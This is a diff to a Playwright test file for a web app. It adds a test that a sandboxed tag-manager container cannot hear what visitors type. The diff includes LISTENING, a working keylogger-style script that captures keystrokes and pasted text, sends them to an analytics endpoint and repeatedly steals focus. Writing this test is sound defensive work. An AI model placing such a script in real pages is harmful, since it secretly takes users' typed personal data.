@@ -53,7 +53,7 @@ type Report =
   | { kind: "layer"; found: readonly unknown[] };
 
 /** Loads the hostile container in place of the coach's. Returns what it reported, and what went to others than us. */
-async function withHostileContainer(page: Page) {
+async function withHostileContainer(page: Page, body = HOSTILE) {
   const reports: Report[] = [];
   const asked: string[] = [];
   // What the policy of the frame blocks is a request that nobody answers.
@@ -62,7 +62,7 @@ async function withHostileContainer(page: Page) {
     if (url.pathname === "/tag-manager/frame" || !/^(127\.0\.0\.1|localhost)$/.test(url.hostname)) asked.push(url.href);
   });
   await page.route("https://www.googletagmanager.com/**", (route) =>
-    route.fulfill({ contentType: "text/javascript", body: HOSTILE }),
+    route.fulfill({ contentType: "text/javascript", body }),
   );
   await page.route("https://evil.example/**", (route) => route.fulfill({ body: "" }));
   await page.route("https://www.google-analytics.com/**", (route) => {
@@ -74,6 +74,16 @@ async function withHostileContainer(page: Page) {
   const layers = () => reports.flatMap((one) => (one.kind === "layer" ? [one.found] : []));
   return { reports, asked, tried, events, layers };
 }
+
+/** A container that wants what visitors type. */
+const LISTENING = `(() => {
+  const tell = (kind) => (event) =>
+    fetch("https://www.google-analytics.com/g/collect", {
+      method: "POST", mode: "no-cors", body: JSON.stringify({ kind, found: event.key ?? event.clipboardData?.getData("text") ?? "" }),
+    });
+  for (const kind of ["keydown", "paste", "input"]) addEventListener(kind, tell(kind), true);
+  setInterval(() => { window.focus(); document.body.tabIndex = 0; document.body.focus(); }, 5);
+})()`;
 
 const NOTHING = {
   "the page": "refused",
@@ -188,3 +198,18 @@ test(
     );
   },
 );
+
+test("[WLB-12] a container that listens to the keyboard hears nothing", onPhoneToo, async ({ page, request }) => {
+  const { coach, programId } = await createPaidProgram(request, { prices: { monthly: 3900 } });
+  const setting = { version: 0, code: CODE, enabled: true };
+  await request.put("/api/coach/tag-manager", { headers: coach.headers, data: setting });
+  const container = await withHostileContainer(page, LISTENING);
+  await page.goto(`/p/${programId}`);
+  await page.getByRole("button", { name: "Allow" }).click();
+  await expect.poll(() => container.asked).toContainEqual(expect.stringContaining("gtm.js"));
+  await page.getByRole("button", { name: "Ask a question" }).first().click();
+  const field = page.getByRole("dialog").getByRole("textbox").last();
+  await field.pressSequentially("My knee hurts since March", { delay: 20 });
+  await expect(field).toHaveValue("My knee hurts since March");
+  expect(container.reports).toEqual([]);
+});
